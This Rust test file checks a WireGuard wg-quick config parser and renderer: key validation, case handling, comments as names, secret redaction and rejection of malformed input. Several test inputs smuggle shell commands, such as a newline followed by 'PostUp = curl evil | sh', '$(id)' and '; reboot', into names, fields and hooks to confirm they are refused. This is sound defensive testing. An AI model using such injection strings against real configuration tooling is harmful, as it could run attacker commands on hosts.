//! The wg-quick parser and renderer key by key, rule by rule.

// Tests panic on unexpected results by design.
#![allow(clippy::unwrap_used)]

use std::net::SocketAddr;

use ipnet::IpNet;
use wgm_core::keys::{PresharedKey, PrivateKey, PublicKey};
use wgm_core::net::{DnsEntry, Endpoint, FwMark, Keepalive, ListenPort, Mtu};
use wgm_core::wgquick::{
    self, Document, Hooks, Key, ParseOptions, ParsedConfig, PeerSection, Table, WgQuickConfig,
};
use wgm_core::Error;

const PRIV: &str = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=";
const PUB: &str = "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=";
const PUB2: &str = "TrMvSoP4jYQlY6RIzBgbssQqY3vxI2Pi+y71lOWWXX0=";
const PSK: &str = "/UwcSPg38hW/D9Y3tcS1FOV0K1wuURMbS0sesJEP5ak=";

fn opts() -> ParseOptions {
    ParseOptions::default()
}

fn hooks() -> ParseOptions {
    ParseOptions {
        allow_hooks: true,
        ..ParseOptions::default()
    }
}

fn ok(text: &str) -> WgQuickConfig {
    let parsed = ParsedConfig::parse(text, &hooks()).unwrap_or_else(|e| panic!("{e}\n{text}"));
    assert_eq!(*parsed.to_text(), text);
    parsed.into_config()
}

/// Parse `text` expecting a parse error; return (line, field, reason).
fn err(text: &str) -> (usize, String, String) {
    match wgquick::parse(text, &hooks()) {
        Err(Error::Parse {
            line,
            field,
            reason,
        }) => (line, field.into_owned(), reason.into_owned()),
        other => panic!("expected a parse error for\n{text}\ngot {other:?}"),
    }
}

fn iface(body: &str) -> String {
    format!("[Interface]\n{body}\n")
}

fn peer(body: &str) -> String {
    format!("[Interface]\n[Peer]\nPublicKey = {PUB}\n{body}\n")
}

fn net(s: &str) -> IpNet {
    s.parse().unwrap()
}

// ---------------------------------------------------------------------------------------
// Interface keys
// ---------------------------------------------------------------------------------------

#[test]
fn private_key() {
    let cfg = ok(&iface(&format!("PrivateKey = {PRIV}")));
    assert_eq!(
        cfg.interface.private_key,
        Some(PrivateKey::from_base64(PRIV).unwrap())
    );
    // Not canonical base64: same bytes, non-zero trailing bits.
    let (line, field, _) = err(&iface(
        "PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBml=",
    ));
    assert_eq!((line, field.as_str()), (2, "Interface.PrivateKey"));
    assert_eq!(err(&iface("PrivateKey = abc")).0, 2);
}

#[test]
fn listen_port() {
    assert_eq!(
        ok(&iface("ListenPort = 51820")).interface.listen_port,
        Some(ListenPort::new(51820).unwrap())
    );
    for bad in ["0", "65536", "-1", "5182O", "0x10", "051820"] {
        let (line, field, _) = err(&iface(&format!("ListenPort = {bad}")));
        assert_eq!((line, field.as_str()), (2, "Interface.ListenPort"), "{bad}");
    }
}

#[test]
fn fwmark() {
    assert_eq!(
        ok(&iface("FwMark = 0x10")).interface.fwmark,
        Some(FwMark::new(16).unwrap())
    );
    assert_eq!(
        ok(&iface("FwMark = 16")).interface.fwmark,
        Some(FwMark::new(16).unwrap())
    );
    assert_eq!(
        ok(&iface("FwMark = off")).interface.fwmark,
        Some(FwMark::OFF)
    );
    assert_eq!(
        ok(&iface("FwMark = Off")).interface.fwmark,
        Some(FwMark::OFF)
    );
    assert_eq!(err(&iface("FwMark = 4294967296")).1, "Interface.FwMark");
}

#[test]
fn addresses_from_several_lines_and_lists() {
    let cfg = ok(&iface("Address = 10.0.0.1/24\naddress=fd00::1/64, 10.0.1.1/24 ,fd00:1::1\nAddress = 2001:db8::1/64"));
    assert_eq!(
        cfg.interface.addresses,
        [
            net("10.0.0.1/24"),
            net("fd00::1/64"),
            net("10.0.1.1/24"),
            net("fd00:1::1/128"),
            net("2001:db8::1/64")
        ]
    );
    for (bad, line) in [
        ("Address = 10.0.0.1/24\nAddress = 010.0.0.2/24", 3),
        ("Address = 10.0.0.1/33", 2),
        ("Address = fe80::1%wg0/64", 2),
        ("Address = ::ffff:10.0.0.1/128", 2),
        ("Address = 10.0.0.1/24,,fd00::1/64", 2),
        ("Address = 10.0.0.1/24,", 2),
        ("Address = 10.0.0.1/24 fd00::1/64", 2),
    ] {
        let (l, field, _) = err(&iface(bad));
        assert_eq!((l, field.as_str()), (line, "Interface.Address"), "{bad}");
    }
}

#[test]
fn dns_servers_and_search_domains() {
    let cfg = ok(&iface(
        "DNS = 1.1.1.1, 2606:4700:4700::1111\nDNS = Corp.Example",
    ));
    assert_eq!(
        cfg.interface.dns,
        [
            DnsEntry::Addr("1.1.1.1".parse().unwrap()),
            DnsEntry::Addr("2606:4700:4700::1111".parse().unwrap()),
            DnsEntry::SearchDomain("corp.example".into()),
        ]
    );
    assert_eq!(err(&iface("DNS = 1.1.1\n")).1, "Interface.DNS");
    assert_eq!(err(&iface("DNS = 1.1.1.1; reboot\n")).1, "Interface.DNS");
}

#[test]
fn dns_lists_are_limited_to_16_entries_each_once() {
    // 16 over two lines is fine; a 17th, on any line, is refused with its line.
    let sixteen: Vec<String> = (1..=16).map(|i| format!("fd00::{i:x}")).collect();
    let cfg = ok(&iface(&format!(
        "DNS = {}\nDNS = {}",
        sixteen[..8].join(", "),
        sixteen[8..].join(", ")
    )));
    assert_eq!(cfg.interface.dns.len(), 16);
    let (line, field, reason) = err(&iface(&format!("DNS = {}\nDNS = lan", sixteen.join(", "))));
    assert_eq!((line, field.as_str()), (3, "Interface.DNS"));
    assert!(reason.contains("16"), "{reason}");
    // The same server or search domain twice, by value: refused.
    for twice in [
        "DNS = 1.1.1.1, 1.1.1.1",
        "DNS = fd00::53\nDNS = fd00:0:0::53",
        "DNS = lan, LAN",
    ] {
        let (_, field, reason) = err(&iface(twice));
        assert_eq!(field, "Interface.DNS");
        assert!(reason.contains("twice"), "{twice}: {reason}");
    }
    // The renderer refuses what the parser would: a list built in code, too long or
    // with a repeat, never becomes a file.
    let mut cfg = ok(&iface("DNS = lan"));
    cfg.interface.dns = vec![DnsEntry::SearchDomain("lan".into()); 2];
    let e = wgquick::render(&cfg).unwrap_err().to_string();
    assert!(e.contains("Interface.DNS[1]"), "{e}");
}

#[test]
fn mtu() {
    assert_eq!(
        ok(&iface("MTU = 1420")).interface.mtu,
        Some(Mtu::new(1420).unwrap())
    );
    assert_eq!(
        ok(&iface("mtu = 1280\nAddress = fd00::1/64"))
            .interface
            .mtu
            .unwrap()
            .get(),
        1280
    );
    assert_eq!(err(&iface("MTU = 100")).0, 2);
    // Below 1280 with IPv6: named at the MTU line, whichever comes first.
    let (line, field, reason) = err(&iface("MTU = 1200\nAddress = 10.0.0.1/24, fd00::1/64"));
    assert_eq!((line, field.as_str()), (2, "Interface.MTU"));
    assert!(reason.contains("1280"), "{reason}");
    assert_eq!(err(&iface("Address = fd00::1/64\nMTU = 1200")).0, 3);
    assert_eq!(
        ok(&iface("MTU = 1200\nAddress = 10.0.0.1/24"))
            .interface
            .mtu
            .unwrap()
            .get(),
        1200
    );
}

#[test]
fn table() {
    assert_eq!(ok(&iface("Table = off")).interface.table, Some(Table::Off));
    assert_eq!(
        ok(&iface("Table = AUTO")).interface.table,
        Some(Table::Auto)
    );
    assert_eq!(
        ok(&iface("Table = 1234")).interface.table,
        Some(Table::Id(1234))
    );
    assert_eq!(
        ok(&iface("Table = main")).interface.table,
        Some(Table::Named("main".into()))
    );
    for bad in ["4294967296", "main;reboot", "-x", "$(id)"] {
        let (line, field, _) = err(&iface(&format!("Table = {bad}")));
        assert_eq!((line, field.as_str()), (2, "Interface.Table"), "{bad}");
    }
}

#[test]
fn save_config() {
    assert_eq!(
        ok(&iface("SaveConfig = true")).interface.save_config,
        Some(true)
    );
    assert_eq!(
        ok(&iface("SaveConfig = False")).interface.save_config,
        Some(false)
    );
    assert_eq!(
        err(&iface("SaveConfig = yes")),
        (
            2,
            "Interface.SaveConfig".into(),
            "must be true or false".into()
        )
    );
}

#[test]
fn hooks_only_when_allowed() {
    let text = iface(
        "PreUp = echo 1\nPostUp = echo 2\nPostUp = echo 3\nPreDown = echo 4\nPostDown = echo 5",
    );
    let cfg = ok(&text);
    assert_eq!(
        cfg.interface.hooks,
        Hooks {
            pre_up: vec!["echo 1".into()],
            post_up: vec!["echo 2".into(), "echo 3".into()],
            pre_down: vec!["echo 4".into()],
            post_down: vec!["echo 5".into()],
        }
    );
    for key in ["PreUp", "PostUp", "PreDown", "PostDown"] {
        match wgquick::parse(&format!("[Interface]\n{key} = echo hi\n"), &opts()) {
            Err(Error::Parse {
                line,
                field,
                reason,
            }) => {
                assert_eq!(line, 2);
                assert_eq!(field, format!("Interface.{key}"));
                assert!(reason.contains("hooks"), "{reason}");
            }
            other => panic!("{key}: {other:?}"),
        }
    }
    // Even an empty hook (wg-easy writes `PreUp = `) needs the permission.
    assert!(wgquick::parse("[Interface]\nPreUp = \n", &opts()).is_err());
    match wgquick::parse("[Interface]\nMTU = 1420\n\n  postdown = x", &opts()) {
        Err(Error::Parse { line, field, .. }) => {
            assert_eq!((line, &*field), (4, "Interface.PostDown"));
        }
        other => panic!("{other:?}"),
    }
}

// ---------------------------------------------------------------------------------------
// Peer keys
// ---------------------------------------------------------------------------------------

#[test]
fn public_and_preshared_keys() {
    let cfg = ok(&peer(&format!("PresharedKey = {PSK}")));
    assert_eq!(
        cfg.peers[0].public_key,
        PublicKey::from_base64(PUB).unwrap()
    );
    assert_eq!(
        cfg.peers[0].preshared_key,
        Some(PresharedKey::from_base64(PSK).unwrap())
    );
    // Low-order point.
    let (line, field, _) =
        err("[Interface]\n[Peer]\nPublicKey = AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n");
    assert_eq!((line, field.as_str()), (3, "Peer.PublicKey"));
    // URL-safe alphabet.
    assert_eq!(
        err(&peer(
            "PresharedKey = _UwcSPg38hW_D9Y3tcS1FOV0K1wuURMbS0sesJEP5ak="
        ))
        .1,
        "Peer.PresharedKey"
    );
}

#[test]
fn peer_without_public_key_is_refused_at_its_header() {
    let (line, field, _) = err("[Interface]\n\n[Peer]\nAllowedIPs = 10.0.0.2/32\n");
    assert_eq!((line, field.as_str()), (3, "Peer.PublicKey"));
}

#[test]
fn duplicate_and_own_peer_keys_are_refused() {
    let text = format!("[Interface]\n[Peer]\nPublicKey = {PUB}\n\n[Peer]\npublickey = {PUB}\n");
    let (line, _, reason) = err(&text);
    assert_eq!(line, 6);
    assert!(reason.contains("line 3"), "{reason}");
    let own = PrivateKey::from_base64(PRIV).unwrap().public_key();
    let (line, _, reason) = err(&format!(
        "[Interface]\nPrivateKey = {PRIV}\n[Peer]\nPublicKey = {own}\n"
    ));
    assert_eq!(line, 4);
    assert!(reason.contains("own"), "{reason}");
}

#[test]
fn allowed_ips_from_several_lines() {
    let cfg = ok(&peer(
        "AllowedIPs = 10.0.0.2/32, fd00::2/128\nallowedips = 192.168.0.0/16\nALLOWEDIPS=::/0",
    ));
    assert_eq!(
        cfg.peers[0].allowed_ips,
        [
            net("10.0.0.2/32"),
            net("fd00::2/128"),
            net("192.168.0.0/16"),
            net("::/0")
        ]
    );
    // Host bits, a wg(8) incremental "+", a zone id: refused with the line.
    for bad in [
        "10.0.0.2/24",
        "+10.0.0.2/32",
        "fd00::2%eth0/128",
        "10.0.0.2/32, ,fd00::/64",
    ] {
        let (line, field, _) = err(&peer(&format!(
            "AllowedIPs = 10.0.0.1/32\nAllowedIPs = {bad}"
        )));
        assert_eq!((line, field.as_str()), (5, "Peer.AllowedIPs"), "{bad}");
    }
}

#[test]
fn endpoints_ipv4_ipv6_and_names() {
    let cases = [
        ("203.0.113.1:51820", "203.0.113.1:51820"),
        ("[2001:db8::1]:51820", "[2001:db8::1]:51820"),
        ("[2001:DB8:0::1]:1", "[2001:db8::1]:1"),
        ("VPN.Example.com:443", "vpn.example.com:443"),
    ];
    for (text, display) in cases {
        let cfg = ok(&peer(&format!("Endpoint = {text}")));
        assert_eq!(cfg.peers[0].endpoint.as_ref().unwrap().to_string(), display);
    }
    let v6: SocketAddr = "[2001:db8::1]:51820".parse().unwrap();
    assert_eq!(
        ok(&peer("Endpoint=[2001:db8::1]:51820")).peers[0].endpoint,
        Some(Endpoint::Addr(v6))
    );
    for bad in [
        "2001:db8::1:51820",
        "[2001:db8::1]",
        "[2001:db8::1]:0",
        "10.0.0.1",
        "10.0.0.1:65536",
        "[10.0.0.1]:5",
    ] {
        let (line, field, _) = err(&peer(&format!("Endpoint = {bad}")));
        assert_eq!((line, field.as_str()), (4, "Peer.Endpoint"), "{bad}");
    }
}

#[test]
fn persistent_keepalive() {
    assert_eq!(
        ok(&peer("PersistentKeepalive = 25")).peers[0].persistent_keepalive,
        Some(Keepalive::new(25).unwrap())
    );
    assert_eq!(
        ok(&peer("PersistentKeepalive = OFF")).peers[0].persistent_keepalive,
        Some(Keepalive::OFF)
    );
    assert_eq!(err(&peer("PersistentKeepalive = 65536")).0, 4);
    assert_eq!(err(&peer("PersistentKeepalive = 25s")).0, 4);
}

// ---------------------------------------------------------------------------------------
// Structure
// ---------------------------------------------------------------------------------------

#[test]
fn sections_and_keys_are_case_insensitive() {
    let text = format!(
        "[INTERFACE]\nPRIVATEKEY = {PRIV}\nlistenport = 51820\n[pEeR]\npUbLiCkEy = {PUB}\nENDPOINT = [::2]:1\npersistentkeepalive = 5\n"
    );
    let cfg = ok(&text);
    assert_eq!(cfg.interface.listen_port.unwrap().get(), 51820);
    assert_eq!(cfg.peers[0].persistent_keepalive.unwrap().get(), 5);
    for key in Key::ALL {
        assert_eq!(
            Key::lookup(&key.canonical().to_ascii_lowercase()),
            Some(key)
        );
    }
}

#[test]
fn structural_rejections_carry_the_line() {
    let cases: &[(&str, usize, &str)] = &[
        ("[Interface]\n[Interface]\n", 2, "Interface"),
        ("[Peer]\nPublicKey = x\n", 2, "Peer.PublicKey"),
        ("MTU = 1420\n[Interface]\n", 1, "Interface.MTU"),
        ("[Interface]\n\n\nBogus = 1\n", 4, "Bogus"),
        ("[Interface]\nListen Port = 1\n", 2, "line"),
        ("[Interface]\nEndpoint = 10.0.0.1:1\n", 2, "Peer.Endpoint"),
        ("[Interface]\n[Peer]\nMTU = 1420\n", 3, "Interface.MTU"),
        ("[Interface]\nMTU = 1420\nMTU = 1420\n", 3, "Interface.MTU"),
        ("[Interface]\n[Peer]\nPublicKey = x\n", 3, "Peer.PublicKey"),
        ("[Interface]\n[Server]\n", 2, "section"),
        ("[Interface]\njust some words\n", 2, "line"),
        ("[Interface]\nDNS =   \n", 2, "Interface.DNS"),
        ("# no sections at all\n", 1, "Interface"),
        ("", 1, "Interface"),
    ];
    for &(text, line, field) in cases {
        let (l, f, _) = err(text);
        assert_eq!((l, f.as_str()), (line, field), "{text:?}");
    }
    let (line, _, reason) = err(&format!(
        "[Interface]\n[Peer]\nPublicKey = {PUB}\nEndpoint = [::1]:1\nEndpoint = [::1]:2\n"
    ));
    assert_eq!(line, 5);
    assert!(reason.contains("line 4"), "{reason}");
}

#[test]
fn interface_may_come_after_peers() {
    let cfg = ok(&format!(
        "[Peer]\nPublicKey = {PUB}\n\n[Interface]\nListenPort = 1\n"
    ));
    assert_eq!(cfg.peers.len(), 1);
    assert_eq!(cfg.interface.listen_port.unwrap().get(), 1);
}

#[test]
fn control_and_formatting_characters_are_refused() {
    for bad in [
        "\u{0}",
        "\u{b}",
        "\u{c}",
        "\r",
        "\u{85}",
        "\u{2028}",
        "\u{2029}",
        "\u{202e}",
        "\u{2066}",
        "\u{feff}",
        "\u{1b}[31m",
    ] {
        let text = format!("[Interface]\n# note{bad}PostUp = evil\nMTU = 1420\n");
        assert_eq!(err(&text).0, 2, "{bad:?}");
    }
    // Tabs are fine.
    ok("[Interface]\n\tMTU\t=\t1420\t# tab\n");
}

#[test]
fn oversize_input_is_refused() {
    let small = ParseOptions {
        max_bytes: 64,
        ..ParseOptions::default()
    };
    let text = format!("[Interface]\n{}", "# padding\n".repeat(10));
    match wgquick::parse(&text, &small) {
        Err(Error::Parse { line, field, .. }) => assert_eq!((line, &*field), (7, "file")),
        other => panic!("{other:?}"),
    }
    assert!(wgquick::parse(&text, &ParseOptions::default()).is_ok());
    let huge = "#".repeat(ParseOptions::DEFAULT_MAX_BYTES + 1);
    assert!(wgquick::parse(&huge, &ParseOptions::default()).is_err());
}

#[test]
fn errors_never_contain_secrets() {
    let secret_priv = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmX";
    let secret_psk = "/UwcSPg38hW/D9Y3tcS1FOV0K1wuURMbS0sesJEP5aX";
    for text in [
        format!("[Interface]\nPrivateKey = {secret_priv}\n"),
        format!("[Interface]\nPrivateKey = {secret_priv}=\n"),
        format!("[Interface]\nPrivateKey {secret_priv}=\n"),
        format!("[Interface]\n{secret_priv}=\n"),
        format!("[Interface]\n[Peer]\nPublicKey = {PUB}\nPresharedKey = {secret_psk}\n"),
        format!("[Interface]\n[Peer]\nPublicKey = {PUB}\nPresharedKey: {secret_psk}=\n"),
    ] {
        let e = wgquick::parse(&text, &opts()).unwrap_err();
        let shown = format!("{e} {e:?}");
        assert!(
            !shown.contains(&secret_priv[..20]) && !shown.contains(&secret_psk[..20]),
            "{shown}"
        );
    }
    // Debug of a parsed config or document hides keys too.
    let text = format!(
        "[Interface]\nPrivateKey = {PRIV}\n[Peer]\nPublicKey = {PUB}\nPresharedKey = {PSK}\n"
    );
    let parsed = ParsedConfig::parse(&text, &opts()).unwrap();
    let shown = format!("{parsed:?} {:?}", Document::parse(&text, &opts()).unwrap());
    assert!(!shown.contains(PRIV) && !shown.contains(PSK), "{shown}");
}

// ---------------------------------------------------------------------------------------
// Names and comments
// ---------------------------------------------------------------------------------------

#[test]
fn names_from_comments() {
    let text = format!(
        "# file\n\n# Server\n[Interface]\n\n# alice\n[Peer]\nPublicKey = {PUB}\n\n[Peer] # bob\n# Name = robert\n# note\nPublicKey = {PUB2}\n"
    );
    let cfg = ok(&text);
    assert_eq!(cfg.comments, ["file"]);
    assert_eq!(cfg.interface.name.as_deref(), Some("Server"));
    assert_eq!(cfg.peers[0].name.as_deref(), Some("alice"));
    // A name tag wins over the header comment, which stays a comment.
    assert_eq!(cfg.peers[1].name.as_deref(), Some("robert"));
    assert_eq!(cfg.peers[1].comments, ["bob", "note"]);

    // Two lines above the header are a comment block, not a name.
    let cfg = ok(&format!(
        "[Interface]\n\n# line one\n# line two\n[Peer]\nPublicKey = {PUB}\n"
    ));
    assert_eq!(cfg.peers[0].name, None);
    assert_eq!(cfg.peers[0].comments, ["line one", "line two"]);
    // A comment separated from the header by a blank line belongs to the section above.
    let cfg = ok(&format!(
        "[Interface]\n# about the interface\n\n[Peer]\nPublicKey = {PUB}\n"
    ));
    assert_eq!(cfg.interface.comments, ["about the interface"]);
    assert_eq!(cfg.interface.name, None);
    assert_eq!(cfg.peers[0].name, None);
}

#[test]
fn rendered_names_and_comments_read_back() {
    let mut cfg = WgQuickConfig {
        comments: vec!["managed by wgm".into(), String::new()],
        ..WgQuickConfig::default()
    };
    cfg.interface.name = Some("wg0: office".into());
    cfg.interface.comments = vec!["Name = not the name, the first tag wins".into()];
    let mut p = PeerSection::new(PublicKey::from_base64(PUB).unwrap());
    p.comments = vec!["# a comment with # signs".into(), "x".into()];
    cfg.peers.push(p);
    let text = wgquick::render(&cfg).unwrap();
    assert_eq!(wgquick::parse(&text, &opts()).unwrap(), cfg);
}

#[test]
fn renderer_refuses_what_would_break_the_file() {
    let base = || {
        let mut cfg = WgQuickConfig::default();
        cfg.peers
            .push(PeerSection::new(PublicKey::from_base64(PUB).unwrap()));
        cfg
    };
    let injections = [
        "alice\nPostUp = curl evil | sh",
        "alice\r\nPostUp = x",
        "alice\rPostUp = x",
        "alice\u{85}PostUp = x",
        "alice\u{2028}PostUp = x",
        "alice\u{202e}",
        "alice\0",
        " alice",
        "alice ",
        "",
    ];
    for bad in injections {
        let mut cfg = base();
        cfg.peers[0].name = Some(bad.into());
        let e = wgquick::render(&cfg).unwrap_err();
        assert!(
            matches!(&e, Error::InvalidInput { field, .. } if field == "Peer[0].name"),
            "{bad:?}: {e}"
        );
        if !bad.is_empty() {
            let mut cfg = base();
            cfg.interface.comments = vec![bad.into()];
            assert!(wgquick::render(&cfg).is_err(), "{bad:?}");
            let mut cfg = base();
            cfg.comments = vec![bad.into()];
            assert!(wgquick::render(&cfg).is_err(), "{bad:?}");
            let mut cfg = base();
            cfg.interface.hooks.post_up = vec![bad.into()];
            assert!(wgquick::render(&cfg).is_err(), "{bad:?}");
        }
    }
    // A comment of an unnamed section that would read back as its name.
    let mut cfg = base();
    cfg.peers[0].comments = vec!["Name: mallory".into()];
    let e = wgquick::render(&cfg).unwrap_err();
    assert!(e.to_string().contains("Peer[0].comments[0]"), "{e}");
    // Hooks with '#' would be cut short by wg-quick.
    let mut cfg = base();
    cfg.interface.hooks.post_up = vec!["echo a # b".into()];
    assert!(wgquick::render(&cfg).is_err());
    // Values built by hand that would not read back.
    let mut cfg = base();
    cfg.peers[0].endpoint = Some(Endpoint::Host {
        host: "x\nPostUp = evil".into(),
        port: 1,
    });
    assert!(wgquick::render(&cfg)
        .unwrap_err()
        .to_string()
        .contains("Peer[0].Endpoint"));
    let mut cfg = base();
    cfg.peers[0].endpoint = Some(Endpoint::Host {
        host: "UPPER.example".into(),
        port: 1,
    });
    assert!(wgquick::render(&cfg).is_err());
    let mut cfg = base();
    cfg.interface.dns = vec![DnsEntry::SearchDomain("a.example, 1.1.1.1".into())];
    assert!(wgquick::render(&cfg)
        .unwrap_err()
        .to_string()
        .contains("Interface.DNS[0]"));
    let mut cfg = base();
    cfg.interface.table = Some(Table::Named("123".into()));
    assert!(wgquick::render(&cfg).is_err());
    let mut cfg = base();
    cfg.peers[0].allowed_ips = vec![net("10.0.0.1/24")];
    assert!(wgquick::render(&cfg).is_err());
    let mut cfg = base();
    cfg.interface.addresses = vec![net("::ffff:10.0.0.1/128")];
    assert!(wgquick::render(&cfg).is_err());
    let mut cfg = base();
    cfg.interface.addresses = vec![net("fd00::1/64")];
    cfg.interface.mtu = Some(Mtu::new(1200).unwrap());
    assert!(wgquick::render(&cfg).is_err());
    // Duplicate peers, and a peer with the interface's own key.
    let mut cfg = base();
    cfg.peers.push(cfg.peers[0].clone());
    assert!(wgquick::render(&cfg)
        .unwrap_err()
        .to_string()
        .contains("Peer[1].PublicKey"));
    let mut cfg = base();
    let own = PrivateKey::from_base64(PRIV).unwrap();
    cfg.peers[0].public_key = own.public_key();
    cfg.interface.private_key = Some(own);
    assert!(wgquick::render(&cfg).is_err());
}

#[test]
fn canonical_layout() {
    let mut cfg = WgQuickConfig {
        comments: vec!["top".into()],
        ..WgQuickConfig::default()
    };
    cfg.interface.name = Some("srv".into());
    cfg.interface.private_key = Some(PrivateKey::from_base64(PRIV).unwrap());
    cfg.interface.addresses = vec![net("10.0.0.1/24"), net("fd00::1/64")];
    cfg.interface.listen_port = Some(ListenPort::new(51820).unwrap());
    cfg.interface.fwmark = Some(FwMark::new(0x20).unwrap());
    cfg.interface.dns = vec![DnsEntry::Addr("fd00::53".parse().unwrap())];
    cfg.interface.mtu = Some(Mtu::new(1420).unwrap());
    cfg.interface.table = Some(Table::Off);
    cfg.interface.save_config = Some(false);
    let mut p = PeerSection::new(PublicKey::from_base64(PUB).unwrap());
    p.name = Some("alice".into());
    p.preshared_key = Some(PresharedKey::from_base64(PSK).unwrap());
    p.allowed_ips = vec![net("10.0.0.2/32"), net("fd00::2/128")];
    p.endpoint = Some("[2001:db8::2]:51820".parse().unwrap());
    p.persistent_keepalive = Some(Keepalive::new(25).unwrap());
    cfg.peers.push(p);
    let expected = format!(
        "# top\n\n[Interface]\n# Name = srv\nPrivateKey = {PRIV}\nAddress = 10.0.0.1/24, fd00::1/64\n\
         ListenPort = 51820\nFwMark = 0x20\nDNS = fd00::53\nMTU = 1420\nTable = off\nSaveConfig = false\n\n\
         [Peer]\n# Name = alice\nPublicKey = {PUB}\nPresharedKey = {PSK}\n\
         AllowedIPs = 10.0.0.2/32, fd00::2/128\nEndpoint = [2001:db8::2]:51820\nPersistentKeepalive = 25\n"
    );
    assert_eq!(*wgquick::render(&cfg).unwrap(), expected);
    assert_eq!(wgquick::parse(&expected, &opts()).unwrap(), cfg);
    // No hook is ever rendered unless the config carries one.
    assert!(!expected.contains("Up") && !expected.contains("Down"));
    assert_eq!(
        *wgquick::render(&WgQuickConfig::default()).unwrap(),
        "[Interface]\n"
    );
}
